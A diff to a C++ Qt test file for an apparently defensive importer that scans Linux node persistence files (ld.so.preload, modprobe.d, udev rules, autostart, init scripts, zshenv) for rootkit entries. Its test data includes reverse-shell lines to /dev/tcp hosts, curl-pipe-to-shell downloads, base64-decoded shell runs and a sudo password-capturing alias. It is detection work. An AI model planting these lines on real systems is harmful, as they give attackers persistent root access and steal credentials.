@@ -102,6 +102,14 @@ private slots:
     void nodeFromThePath();
     void sniff_data();
     void sniff();
+    void packagedHookFilesAreQuiet_data();
+    void packagedHookFilesAreQuiet();
+    void hookIntruders_data();
+    void hookIntruders();
+    void hookFindingsSayWhat();
+    void hookDetections_data();
+    void hookDetections();
+    void hookFilesBounded();
     void fuzz();
 };
 
@@ -606,9 +614,30 @@ void TestNodeScriptImporter::cancels()
 
 void TestNodeScriptImporter::nodeFromThePath()
 {
-    for (const char* path : {"worker-1/etc/rc.local", "worker-1/etc/rc.d/rc.local", "worker-1/etc/profile.d/x.sh",
-                             "worker-1/etc/cron.daily/logrotate", "worker-1/etc/update-motd.d/00-header",
-                             "worker-1/home/alice/.bashrc", "worker-1/root/.profile", "worker-1/etc/zsh/zshrc"}) {
+    for (const char* path : {"worker-1/etc/rc.local",
+                             "worker-1/etc/rc.d/rc.local",
+                             "worker-1/etc/profile.d/x.sh",
+                             "worker-1/etc/cron.daily/logrotate",
+                             "worker-1/etc/update-motd.d/00-header",
+                             "worker-1/home/alice/.bashrc",
+                             "worker-1/root/.profile",
+                             "worker-1/etc/zsh/zshrc",
+                             "worker-1/etc/init.d/ssh",
+                             "worker-1/etc/rc.d/init.d/network",
+                             "worker-1/etc/ld.so.preload",
+                             "worker-1/etc/environment",
+                             "worker-1/etc/modprobe.d/x.conf",
+                             "worker-1/lib/modprobe.d/aliases.conf",
+                             "worker-1/usr/lib/modprobe.d/systemd.conf",
+                             "worker-1/etc/modules-load.d/k8s.conf",
+                             "worker-1/etc/modules",
+                             "worker-1/etc/zsh/zshenv",
+                             "worker-1/home/alice/.zshenv",
+                             "worker-1/root/.zlogin",
+                             "worker-1/etc/udev/rules.d/99-x.rules",
+                             "worker-1/usr/lib/udev/rules.d/80-drivers.rules",
+                             "worker-1/etc/xdg/autostart/x.desktop",
+                             "worker-1/home/alice/.config/autostart/x.desktop"}) {
         const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
         QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
     }
@@ -686,6 +715,40 @@ void TestNodeScriptImporter::sniff_data()
                                                       16)
                                         << "worker-1/etc/rc.local" << QString();
     QTest::newRow("empty") << QByteArray() << "worker-1/etc/rc.local" << QString();
+    // SysV init scripts, zsh's other files, and the files of their own formats.
+    for (const QString& tree : {QStringLiteral("debian"), QStringLiteral("rootkit")}) {
+        for (const QString& f : treeFiles(tree)) {
+            const QString onNode = f.section(QLatin1Char('/'), 1);
+            QTest::addRow("%s", qPrintable(f))
+                << fixture(f) << QStringLiteral("worker-1.tar.gz/worker-1/") + onNode << script;
+            QTest::addRow("%s, elsewhere", qPrintable(f))
+                << fixture(f) << QStringLiteral("worker-1/opt/app/") + onNode.section(QLatin1Char('/'), -1)
+                << QString();
+        }
+    }
+    QTest::newRow("RHEL's init.d") << sh << "worker-1/etc/rc.d/init.d/network" << script;
+    QTest::newRow("a user's .zlogout") << sh << "worker-1/home/alice/.zlogout" << script;
+    QTest::newRow("usr/lib/modprobe.d") << QByteArray("options loop max_loop=8\n")
+                                        << "worker-1/usr/lib/modprobe.d/x.conf" << script;
+    QTest::newRow("usr/lib/modules-load.d")
+        << QByteArray("fuse\n") << "worker-1/usr/lib/modules-load.d/fuse.conf" << script;
+    QTest::newRow("init.d's README") << QByteArray("All scripts in this folder …\n") << "worker-1/etc/init.d/README"
+                                     << QString();
+    QTest::newRow("python in init.d") << QByteArray("#!/usr/bin/python3\nprint(1)\n") << "worker-1/etc/init.d/x"
+                                      << QString();
+    QTest::newRow("modprobe.d not .conf")
+        << QByteArray("install x /tmp/y\n") << "worker-1/etc/modprobe.d/x.conf.bak" << QString();
+    QTest::newRow("environment elsewhere")
+        << QByteArray("PATH=/tmp\n") << "worker-1/etc/default/environment" << QString();
+    QTest::newRow("udev rules not .rules")
+        << QByteArray("RUN+=\"/tmp/x\"\n") << "worker-1/etc/udev/rules.d/x.rules~" << QString();
+    QTest::newRow("a desktop entry of an application")
+        << QByteArray("[Desktop Entry]\nExec=/tmp/x\n") << "worker-1/usr/share/applications/x.desktop" << QString();
+    QTest::newRow("binary ld.so.preload") << QByteArray("\x7f"
+                                                        "ELF\x02\x01\x01\0\0\0",
+                                                        10)
+                                          << "worker-1/etc/ld.so.preload" << QString();
+    QTest::newRow("empty environment") << QByteArray() << "worker-1/etc/environment" << QString();
     // A place of another node file stays that importer's.
     QTest::newRow("crontab") << fixture(QStringLiteral("../cron/crontab")) << "worker-1/etc/crontab"
                              << QStringLiteral("cron");
@@ -700,12 +763,428 @@ void TestNodeScriptImporter::sniff()
     QCOMPARE(chosenKind(head, path), kind);
 }
 
+void TestNodeScriptImporter::packagedHookFilesAreQuiet_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("runs");
+    QTest::addColumn<QString>("runsAs");
+    QTest::addColumn<QString>("list"); // the body's list of entries
+    QTest::addColumn<int>("entries");
+    const QString script = QStringLiteral("NodeScript");
+    const QString modules = QStringLiteral("NodeModules");
+    const QString root = QStringLiteral("root");
+    const QString every = QStringLiteral("every user");
+    struct Row
+    {
+        const char* path;
+        QString kind;
+        const char* runs;
+        QString runsAs;
+        const char* list;
+        int entries;
+    };
+    const Row rows[] = {
+        {"debian/etc/init.d/ssh", script, "boot", root, "suspicious", 0},
+        {"debian/etc/init.d/cron", script, "boot", root, "suspicious", 0},
+        {"debian/etc/zsh/zshenv", script, "every zsh", every, "suspicious", 0},
+        {"debian/home/admin/.zshenv", script, "every zsh", QStringLiteral("admin"), "suspicious", 0},
+        {"debian/etc/ld.so.preload", QStringLiteral("NodePreload"), "every program", every, "libraries", 0},
+        {"debian/etc/environment", QStringLiteral("NodeEnvironment"), "every login session", every, "variables", 1},
+        // 4 sound-slot aliases, snd, snd-rawmidi, snd-emu10k1.
+        {"debian/etc/modprobe.d/alsa-base.conf", modules, "module load", root, "commands", 7},
+        {"debian/etc/modprobe.d/blacklist.conf", modules, "module load", root, "commands", 0},
+        // 14 modules disabled with /bin/false or /bin/true.
+        {"debian/etc/modprobe.d/cis-hardening.conf", modules, "module load", root, "commands", 11},
+        {"debian/lib/modprobe.d/aliases.conf", modules, "module load", root, "commands", 0},
+        {"debian/etc/modules", modules, "boot", root, "modules", 0},
+        {"debian/etc/modules-load.d/k8s.conf", modules, "boot", root, "modules", 2},
+        // Amazon Linux's EBS names, udev's own module loading (builtins, not
+        // commands), ifupdown's hotplug.
+        {"debian/etc/udev/rules.d/70-ec2-nvme-devices.rules", QStringLiteral("NodeUdevRules"), "device event", root,
+         "commands", 2},
+        {"debian/lib/udev/rules.d/80-drivers.rules", QStringLiteral("NodeUdevRules"), "device event", root, "commands",
+         0},
+        {"debian/lib/udev/rules.d/80-ifupdown.rules", QStringLiteral("NodeUdevRules"), "device event", root, "commands",
+         1},
+        {"debian/etc/xdg/autostart/xdg-user-dirs.desktop", QStringLiteral("NodeAutostart"), "desktop login", every,
+         "commands", 1},
+    };
+    QCOMPARE(treeFiles(QStringLiteral("debian")).size(), int(std::size(rows)));
+    for (const Row& r : rows)
+        QTest::newRow(r.path) << QString::fromLatin1(r.path) << r.kind << QString::fromLatin1(r.runs) << r.runsAs
+                              << QString::fromLatin1(r.list) << r.entries;
+}
+
+void TestNodeScriptImporter::packagedHookFilesAreQuiet()
+{
+    // Debian's own init scripts, zshenv, modprobe.d files (the aliases, sound
+    // modules loaded by modprobe, a hardening baseline disabling modules with
+    // /bin/false), the PATH of /etc/environment and a preload list of comments
+    // only: no finding, no issue, one resource each.
+    QFETCH(QString, path);
+    QFETCH(QString, kind);
+    QFETCH(QString, runs);
+    QFETCH(QString, runsAs);
+    QFETCH(QString, list);
+    QFETCH(int, entries);
+    const MemoryImport m = runFixture(path);
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
+    QCOMPARE(issueCodes(m.issues), QStringList());
+    QCOMPARE(m.out.resources.size(), size_t(1));
+    const Resource& r = m.out.resources.front();
+    QCOMPARE(r.kind, kind);
+    QCOMPARE(r.namespace_, QStringLiteral("worker-1"));
+    QCOMPARE(r.name, path.section(QLatin1Char('/'), 1));
+    const QJsonObject body = bodyOf(m);
+    QCOMPARE(body.value(QStringLiteral("path")).toString(), QLatin1Char('/') + path.section(QLatin1Char('/'), 1));
+    QCOMPARE(body.value(QStringLiteral("runs")).toString(), runs);
+    QCOMPARE(body.value(QStringLiteral("runsAs")).toString(), runsAs);
+    QCOMPARE(body.value(QStringLiteral("lines")).toInt(), fixture(path).count('\n'));
+    QCOMPARE(body.value(list).toArray().size(), entries);
+}
+
+void TestNodeScriptImporter::hookIntruders_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QStringList>("findings"); // "rule@line"
+    QTest::newRow("a process hider in ld.so.preload")
+        << "rootkit/etc/ld.so.preload"
+        << "NodePreload"
+        << QStringList{QStringLiteral("node.preload.library@1"), QStringLiteral("node.preload.library@2")};
+    QTest::newRow("/etc/environment: PATH from /var/tmp, LD_PRELOAD")
+        << "rootkit/etc/environment"
+        << "NodeEnvironment"
+        << QStringList{QStringLiteral("node.environment.ld-preload@2"), QStringLiteral("node.environment.path@1")};
+    QTest::newRow("a reverse shell when usb-storage loads")
+        << "rootkit/etc/modprobe.d/usb-storage.conf"
+        << "NodeModules" << QStringList{QStringLiteral("node.module.install-command@2")};
+    QTest::newRow("a rootkit's module loaded at boot")
+        << "rootkit/etc/modules-load.d/netfilter.conf"
+        << "NodeModules" << QStringList{QStringLiteral("node.module.load-path@3")};
+    QTest::newRow("an init script downloading and running")
+        << "rootkit/etc/init.d/network-helper"
+        << "NodeScript" << QStringList{QStringLiteral("node.script.download-exec@13")};
+    QTest::newRow("zshenv capturing sudo's password")
+        << "rootkit/etc/zsh/zshenv"
+        << "NodeScript" << QStringList{QStringLiteral("node.script.credential-alias@6")};
+    QTest::newRow("a miner from a user's .zlogin")
+        << "rootkit/home/dev/.zlogin"
+        << "NodeScript" << QStringList{QStringLiteral("node.script.runs-from-temp@2")};
+    QTest::newRow("a udev rule downloading on each new interface")
+        << "rootkit/etc/udev/rules.d/75-net-helper.rules"
+        << "NodeUdevRules" << QStringList{QStringLiteral("node.udev.run-command@2")};
+    QTest::newRow("an autostart entry from a hidden folder")
+        << "rootkit/home/dev/.config/autostart/gnome-keyring-helper.desktop"
+        << "NodeAutostart" << QStringList{QStringLiteral("node.autostart.exec@4")};
+    QCOMPARE(treeFiles(QStringLiteral("rootkit")).size(), 9);
+}
+
+void TestNodeScriptImporter::hookIntruders()
+{
+    QFETCH(QString, path);
+    QFETCH(QString, kind);
+    QFETCH(QStringList, findings);
+    const MemoryImport m = runFixture(path);
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    QCOMPARE(findingLines(m), findings);
+    QCOMPARE(m.out.resources.size(), size_t(1));
+    QCOMPARE(m.out.resources.front().kind, kind);
+    for (const Finding& f : m.out.findings) {
+        QCOMPARE(f.tool, QStringLiteral("auditbench"));
+        QCOMPARE(f.resourceKind, kind);
+        QCOMPARE(f.resourceNamespace, QStringLiteral("worker-1"));
+        QCOMPARE(f.resourceName, path.section(QLatin1Char('/'), 1));
+        QVERIFY(!f.controls.isEmpty());
+        QVERIFY2(f.title.endsWith(QLatin1String(" on node worker-1")), qPrintable(f.title));
+        QVERIFY(!f.detail.isEmpty());
+    }
+}
+
+void TestNodeScriptImporter::hookFindingsSayWhat()
+{
+    const MemoryImport preload = runFixture(QStringLiteral("rootkit/etc/ld.so.preload"));
+    QCOMPARE(preload.out.findings.size(), size_t(2));
+    const Finding& hider = preload.out.findings[0];
+    QCOMPARE(hider.severity, Severity::High);
+    QCOMPARE(hider.title, QStringLiteral("/etc/ld.so.preload loads /usr/local/lib/libprocesshider.so into every "
+                                         "program on node worker-1"));
+    QVERIFY(hider.detail.endsWith(QLatin1String("Line 1 of /etc/ld.so.preload: /usr/local/lib/libprocesshider.so")));
+    QCOMPARE(hider.controls, QStringLiteral("CC6.8,CC7.2"));
+    const Finding& hidden = preload.out.findings[1];
+    QCOMPARE(hidden.severity, Severity::High);
+    QCOMPARE(hidden.title, QStringLiteral("/etc/ld.so.preload loads /dev/shm/.x11/libsys.so, kept in a temporary or "
+                                          "hidden folder, into every program on node worker-1"));
+    const QJsonArray libraries = bodyOf(preload).value(QStringLiteral("libraries")).toArray();
+    QCOMPARE(libraries.size(), 2);
+    QCOMPARE(libraries[1].toObject().value(QStringLiteral("library")).toString(),
+             QStringLiteral("/dev/shm/.x11/libsys.so"));
+    QVERIFY(libraries[1].toObject().value(QStringLiteral("temporaryOrHidden")).toBool());
+    QVERIFY(!libraries[0].toObject().contains(QStringLiteral("temporaryOrHidden")));
+
+    // /etc/environment: what each variable is, the credential fingerprinted.
+    const MemoryImport env = runFixture(QStringLiteral("rootkit/etc/environment"));
+    const Finding* path = findingFor(env, QStringLiteral("node.environment.path"), QStringLiteral("etc/environment"));
+    QVERIFY(path);
+    QCOMPARE(path->severity, Severity::Medium);
+    QCOMPARE(path->title, QStringLiteral("/etc/environment puts /var/tmp/.cache/bin in the PATH of every login "
+                                         "session on node worker-1"));
+    const Finding* ld =
+        findingFor(env, QStringLiteral("node.environment.ld-preload"), QStringLiteral("etc/environment"));
+    QCOMPARE(ld->severity, Severity::High);
+    QCOMPARE(ld->title, QStringLiteral("/etc/environment preloads /usr/lib/x86_64-linux-gnu/libselinux.so.9 into "
+                                       "the programs of every login session on node worker-1"));
+    const QString body = env.out.resources.front().body;
+    QVERIFY2(!body.contains(QLatin1String("wJalrXUtnFEMI")), qPrintable(body));
+    const QJsonArray vars = bodyOf(env).value(QStringLiteral("variables")).toArray();
+    QCOMPARE(vars.size(), 4);
+    QCOMPARE(vars[3].toObject().value(QStringLiteral("name")).toString(), QStringLiteral("AWS_SECRET_ACCESS_KEY"));
+    QCOMPARE(vars[3].toObject().value(QStringLiteral("value")).toString(),
+             secretFingerprint("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"));
+    QCOMPARE(vars[3].toObject().value(QStringLiteral("line")).toInt(), 5);
+
+    // modprobe.d: the gravest judgement of the command, the hook and the line continued.
+    const MemoryImport usb = runFixture(QStringLiteral("rootkit/etc/modprobe.d/usb-storage.conf"));
+    const Finding& shell = usb.out.findings.front();
+    QCOMPARE(shell.severity, Severity::Critical);
+    QCOMPARE(shell.title, QStringLiteral("the modprobe hook install usb-storage in /etc/modprobe.d/usb-storage.conf "
+                                         "opens a reverse shell as root on node worker-1"));
+    QVERIFY2(shell.detail.contains(QLatin1String("Line 2 of /etc/modprobe.d/usb-storage.conf: install usb-storage "
+                                                 "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.45/443 0>&1 &' ;     "
+                                                 "/sbin/modprobe --ignore-install usb-storage")),
+             qPrintable(shell.detail));
+    const QJsonObject usbBody = bodyOf(usb);
+    QCOMPARE(usbBody.value(QStringLiteral("options")).toInt(), 1);
+    const QJsonObject command = usbBody.value(QStringLiteral("commands")).toArray().at(0).toObject();
+    QCOMPARE(command.value(QStringLiteral("module")).toString(), QStringLiteral("usb-storage"));
+    QCOMPARE(command.value(QStringLiteral("directive")).toString(), QStringLiteral("install"));
+    QVERIFY(command.value(QStringLiteral("suspicious")).toBool());
+
+    const MemoryImport cis = runFixture(QStringLiteral("debian/etc/modprobe.d/cis-hardening.conf"));
+    QCOMPARE(bodyOf(cis).value(QStringLiteral("blacklisted")).toArray().size(), 7);
+
+    const MemoryImport load = runFixture(QStringLiteral("rootkit/etc/modules-load.d/netfilter.conf"));
+    QCOMPARE(load.out.findings.front().severity, Severity::Medium);
+    QCOMPARE(load.out.findings.front().title,
+             QStringLiteral("/etc/modules-load.d/netfilter.conf lists a file path, not a module name, to load at boot "
+                            "on node worker-1"));
+    const QJsonArray names = bodyOf(load).value(QStringLiteral("modules")).toArray();
+    QCOMPARE(names.size(), 2);
+    QCOMPARE(names[0].toObject().value(QStringLiteral("module")).toString(), QStringLiteral("br_netfilter"));
+
+    // udev: the continued rule, its command kept; autostart: whose entry.
+    const MemoryImport udev = runFixture(QStringLiteral("rootkit/etc/udev/rules.d/75-net-helper.rules"));
+    QVERIFY2(udev.out.findings.size() == 1, qPrintable(udev.out.resources.front().body));
+    QCOMPARE(udev.out.findings.front().severity, Severity::High);
+    QCOMPARE(udev.out.findings.front().title,
+             QStringLiteral("the udev rules /etc/udev/rules.d/75-net-helper.rules download code and run it as root on "
+                            "a device event on node worker-1"));
+    const QJsonObject udevBody = bodyOf(udev);
+    QCOMPARE(udevBody.value(QStringLiteral("rules")).toInt(), 1);
+    const QJsonObject run = udevBody.value(QStringLiteral("commands")).toArray().at(0).toObject();
+    QCOMPARE(run.value(QStringLiteral("key")).toString(), QStringLiteral("RUN"));
+    QCOMPARE(run.value(QStringLiteral("command")).toString(),
+             QStringLiteral("/bin/sh -c 'curl -fsS http://203.0.113.9/u.sh | sh'"));
+    QVERIFY(run.value(QStringLiteral("suspicious")).toBool());
+    const MemoryImport autostart =
+        runFixture(QStringLiteral("rootkit/home/dev/.config/autostart/gnome-keyring-helper.desktop"));
+    QVERIFY2(autostart.out.findings.size() == 1, qPrintable(autostart.out.resources.front().body));
+    QCOMPARE(autostart.out.findings.front().severity, Severity::Medium);
+    QCOMPARE(autostart.out.findings.front().title,
+             QStringLiteral("the autostart entry /home/dev/.config/autostart/gnome-keyring-helper.desktop runs a "
+                            "program from a temporary or hidden folder at each desktop login on node worker-1"));
+    QCOMPARE(bodyOf(autostart).value(QStringLiteral("runsAs")).toString(), QStringLiteral("dev"));
+    QCOMPARE(bodyOf(autostart).value(QStringLiteral("owner")).toString(), QStringLiteral("dev"));
+
+    // A SysV script and zsh's files say when they run.
+    const MemoryImport init = runFixture(QStringLiteral("rootkit/etc/init.d/network-helper"));
+    QVERIFY2(init.out.findings.front().detail.contains(
+                 QLatin1String("Line 13 of /etc/init.d/network-helper, run at boot as root:     curl -fsSL")),
+             qPrintable(init.out.findings.front().detail));
+    const MemoryImport zshenv = runFixture(QStringLiteral("rootkit/etc/zsh/zshenv"));
+    QVERIFY(zshenv.out.findings.front().detail.contains(
+        QLatin1String("Line 6 of /etc/zsh/zshenv, run in every zsh of every user, scripts' too: alias sudo=")));
+    const MemoryImport zlogin = runFixture(QStringLiteral("rootkit/home/dev/.zlogin"));
+    QVERIFY(zlogin.out.findings.front().detail.contains(
+        QLatin1String("Line 2 of /home/dev/.zlogin, run in the login shells of dev: (/var/tmp/.X11-cache/xmrig")));
+}
+
+void TestNodeScriptImporter::hookDetections_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QByteArray>("text");
+    QTest::addColumn<QStringList>("findings"); // "rule@line"
+    const QString preload = QStringLiteral("worker-1/etc/ld.so.preload");
+    const QString env = QStringLiteral("worker-1/etc/environment");
+    const QString modprobe = QStringLiteral("worker-1/etc/modprobe.d/x.conf");
+    const QString modules = QStringLiteral("worker-1/etc/modules");
+    const QStringList none;
+
+    QTest::newRow("preload: blanks and ':' separate")
+        << preload << QByteArray("/lib/a.so:/lib/b.so  /lib/c.so # and a comment /lib/d.so\n")
+        << QStringList{"node.preload.library@1", "node.preload.library@1", "node.preload.library@1"};
+    QTest::newRow("preload: a jemalloc is still one")
+        << preload << QByteArray("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")
+        << QStringList{"node.preload.library@1"};
+    QTest::newRow("preload: blank lines and comments") << preload << QByteArray("\n  \n# /tmp/x.so\n\t\n") << none;
+    QTest::newRow("preload: ':' alone") << preload << QByteArray(" : :\n") << none;
+
+    QTest::newRow("env: PATH with '.' first")
+        << env << QByteArray("PATH=.:/usr/bin:/bin\n") << QStringList{"node.environment.path@1"};
+    QTest::newRow("env: PATH with an empty element first")
+        << env << QByteArray("PATH=\":/usr/bin:/bin\"\n") << QStringList{"node.environment.path@1"};
+    QTest::newRow("env: PATH with a hidden folder last")
+        << env << QByteArray("export PATH=/usr/bin:/bin:/home/ops/.x/bin\n") << QStringList{"node.environment.path@1"};
+    QTest::newRow("env: PATH with a trailing ':'") << env << QByteArray("PATH=/usr/bin:/bin:\n") << none;
+    QTest::newRow("env: PATH with ~/.local/bin")
+        << env << QByteArray("PATH=/usr/bin:/bin:/home/ops/.local/bin\n") << none;
+    QTest::newRow("env: LD_LIBRARY_PATH in /tmp") << env << QByteArray("LD_LIBRARY_PATH=/opt/app/lib:/tmp/.l\n")
+                                                  << QStringList{"node.environment.library-path@1"};
+    QTest::newRow("env: LD_LIBRARY_PATH with the working folder")
+        << env << QByteArray("LD_LIBRARY_PATH=/opt/app/lib::/usr/lib\n")
+        << QStringList{"node.environment.library-path@1"};
+    QTest::newRow("env: LD_LIBRARY_PATH in /opt") << env << QByteArray("LD_LIBRARY_PATH=/opt/oracle/lib\n") << none;
+    QTest::newRow("env: LD_PRELOAD empty") << env << QByteArray("LD_PRELOAD=\"\"\n") << none;
+    QTest::newRow("env: proxies and locale")
+        << env << QByteArray("# proxy\nhttp_proxy=http://proxy.corp:3128\nLANG=en_US.UTF-8\n\n") << none;
+
+    QTest::newRow("modprobe: /bin/true and /bin/false")
+        << modprobe << QByteArray("install cramfs /bin/true\ninstall udf /bin/false\nremove x /bin/true\n") << none;
+    QTest::newRow("modprobe: modprobe of others")
+        << modprobe << QByteArray("install bonding /sbin/modprobe --ignore-install bonding && /sbin/modprobe mii\n")
+        << none;
+    QTest::newRow("modprobe: an echo for the log")
+        << modprobe << QByteArray("install usb-storage /bin/echo usb-storage is disabled; /bin/false\n") << none;
+    QTest::newRow("modprobe: another program")
+        << modprobe << QByteArray("install dummy /usr/local/sbin/net-setup --all\n")
+        << QStringList{"node.module.install-command@1"};
+    QTest::newRow("modprobe: a remove line from /tmp")
+        << modprobe << QByteArray("options x y=1\nremove x /tmp/.r\n") << QStringList{"node.module.install-command@2"};
+    QTest::newRow("modprobe: a download run")
+        << modprobe << QByteArray("install floppy curl -s http://203.0.113.7/f | sh\n")
+        << QStringList{"node.module.install-command@1"};
+    QTest::newRow("modprobe: a comment with install")
+        << modprobe << QByteArray("# install x /tmp/y\nblacklist x\n") << none;
+
+    QTest::newRow("modules: names and parameters")
+        << modules << QByteArray("loop max_loop=64\n; a comment\nfuse\n") << none;
+    QTest::newRow("modules: a path") << modules << QByteArray("# load\n/tmp/.k/r.ko\n")
+                                     << QStringList{"node.module.load-path@2"};
+
+    const QString udev = QStringLiteral("worker-1/etc/udev/rules.d/99-x.rules");
+    const QString autostart = QStringLiteral("worker-1/etc/xdg/autostart/x.desktop");
+    QTest::newRow("udev: IMPORT{program} reverse shell")
+        << udev
+        << QByteArray("SUBSYSTEM==\"usb\", IMPORT{program}=\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1'\"\n")
+        << QStringList{"node.udev.run-command@1"};
+    QTest::newRow("udev: PROGRAM from /dev/shm") << udev << QByteArray("KERNEL==\"sd*\", PROGRAM=\"/dev/shm/.p %k\"\n")
+                                                 << QStringList{"node.udev.run-command@1"};
+    QTest::newRow("udev: base64 after an escaped quote")
+        << udev << QByteArray("ACTION==\"add\", RUN+=\"/bin/sh -c \\\"echo Y3VybA== | base64 -d | sh\\\"\"\n")
+        << QStringList{"node.udev.run-command@1"};
+    QTest::newRow("udev: builtins and matches") << udev
+                                                << QByteArray("# RUN+=\"/tmp/x\"\nENV{X}==\"/tmp/y\", "
+                                                              "RUN{builtin}+=\"kmod load /tmp/z\", ATTR{a}=\"1\"\n")
+                                                << none;
+    QTest::newRow("udev: a rule not of pairs") << udev << QByteArray("RUN+=/tmp/x\nRUN+=\"/bin/true\"\n") << none;
+    QTest::newRow("autostart: base64 into a shell")
+        << autostart
+        << QByteArray("[Desktop Entry]\nType=Application\nExec=sh -c \"echo Y3VybA== | base64 -d | bash\"\n")
+        << QStringList{"node.autostart.exec@3"};
+    QTest::newRow("autostart: another group's Exec")
+        << autostart << QByteArray("[Desktop Entry]\nExec=nm-applet\n[Desktop Action New]\nExec=/tmp/x\n") << none;
+    QTest::newRow("autostart: a user's own from .local/bin")
+        << QStringLiteral("worker-1/home/alice/.config/autostart/sync.desktop")
+        << QByteArray("[Desktop Entry]\nExec=/home/alice/.local/bin/sync-notes --tray\n") << none;
+
+    // Init scripts and zsh's files go through the shared judgement.
+    QTest::newRow("init.d: a reverse shell")
+        << QStringLiteral("worker-1/etc/rc.d/init.d/vmtools")
+        << QByteArray("#!/bin/bash\n# chkconfig: 2345 10 90\nnohup bash -i >& /dev/tcp/203.0.113.7/53 0>&1 &\n")
+        << QStringList{"node.script.reverse-shell@3"};
+    QTest::newRow("zprofile: history off for all")
+        << QStringLiteral("worker-1/etc/zprofile") << QByteArray("unset HISTFILE\n")
+        << QStringList{"node.script.history-off@1"};
+    QTest::newRow("a user's .zshenv: history off is theirs")
+        << QStringLiteral("worker-1/home/alice/.zshenv") << QByteArray("unset HISTFILE\n") << none;
+}
+
+void TestNodeScriptImporter::hookDetections()
+{
+    QFETCH(QString, path);
+    QFETCH(QByteArray, text);
+    QFETCH(QStringList, findings);
+    const MemoryImport m = runBytes(text, path);
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(findingLines(m), findings);
+    QCOMPARE(m.out.resources.size(), size_t(1));
+}
+
+void TestNodeScriptImporter::hookFilesBounded()
+{
+    // A million libraries in ld.so.preload: each judged, the first 10,000 kept,
+    // a hundred findings and an issue counting the rest.
+    QByteArray bytes;
+    bytes.reserve(20 * 1000000);
+    for (int i = 0; i < 1000000; ++i)
+        bytes += "/lib/l" + QByteArray::number(i % 10) + ".so\n";
+    const MemoryImport m = runBytes(bytes, QStringLiteral("worker-1/etc/ld.so.preload"));
+    QVERIFY(keptBounded(m, QStringLiteral("node-script"), "libraries", 10000, "notKept", 990000,
+                        QStringLiteral("999900 more entries match node.preload.library")));
+    // A modprobe.d line continued a million times: read up to the bound.
+    QByteArray continued = "install x /sbin/modprobe \\\n";
+    for (int i = 0; i < 1000000; ++i)
+        continued += " --opt \\\n";
+    continued += "x\ninstall y /tmp/z\n";
+    const MemoryImport c = runBytes(continued, QStringLiteral("worker-1/etc/modprobe.d/x.conf"));
+    QVERIFY(c.result.hasValue());
+    QCOMPARE(findingLines(c), QStringList{QStringLiteral("node.module.install-command@1000003")});
+    QVERIFY(hasIssue(c.issues, QStringLiteral("node-script.too-long")));
+    QVERIFY(c.out.resources.front().body.size() < 64 * 1024);
+    // Bad lines of /etc/environment: skipped with a reason, the rest read.
+    const MemoryImport e =
+        runBytes("not a variable\n=x\nPATH=/tmp/b:/usr/bin\n", QStringLiteral("worker-1/etc/environment"));
+    QVERIFY(e.result.hasValue());
+    QCOMPARE(e.result.value().skipped, 2);
+    QVERIFY(hasIssue(e.issues, QStringLiteral("node-script.not-a-variable")));
+    QCOMPARE(findingLines(e), QStringList{QStringLiteral("node.environment.path@3")});
+    // Variables pasted into ld.so.preload by mistake: the credentials fingerprinted too.
+    const MemoryImport pasted =
+        runBytes(fixture(QStringLiteral("rootkit/etc/environment")), QStringLiteral("worker-1/etc/ld.so.preload"));
+    QVERIFY2(!pasted.out.resources.front().body.contains(QLatin1String("wJalrXUtnFEMI")),
+             qPrintable(pasted.out.resources.front().body));
+    // Credentials in /etc/environment, by their names or inside a value: fingerprints.
+    const MemoryImport s = runBytes("DB_PASSWORD=S3cret-Pg-Pass\nGITHUB_TOKEN='ghp_Abc123Def456Ghi789'\n"
+                                    "LD_PRELOAD=/lib/x.so\nPROXY=http://proxy:3128/?access_token=Tok-4x9-Secret\n",
+                                    QStringLiteral("worker-1/etc/environment"));
+    QCOMPARE(findingLines(s), QStringList{QStringLiteral("node.environment.ld-preload@3")});
+    for (const char* secret : {"S3cret-Pg-Pass", "ghp_Abc123Def456Ghi789", "Tok-4x9-Secret"}) {
+        QVERIFY2(!s.out.resources.front().body.contains(QLatin1String(secret)), secret);
+        QVERIFY(!s.out.findings.front().detail.contains(QLatin1String(secret)));
+    }
+}
+
 void TestNodeScriptImporter::fuzz()
 {
     NodeScriptImporter importer;
     QVERIFY(fuzzImporter(importer, fuzzIterations(), 0x6e73) > 0);
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/rc.local"), 0x6e74));
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.bashrc"), 0x6e75));
+    // The files of their own formats. (Their credentials are fingerprinted by
+    // the variable's name, so a mutation of the name leaves the value a word
+    // like any other: secretsAreMasked and hookFilesBounded check them.)
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/ld.so.preload"), 0x6e76));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/environment"), 0x6e77));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/modprobe.d/x.conf"), 0x6e78));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/modules-load.d/x.conf"), 0x6e79));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/udev/rules.d/x.rules"), 0x6e7c));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.config/autostart/x.desktop"), 0x6e7d));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/init.d/x"), 0x6e7a));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/zsh/zshenv"), 0x6e7b));
 }
 
 QTEST_GUILESS_MAIN(TestNodeScriptImporter)
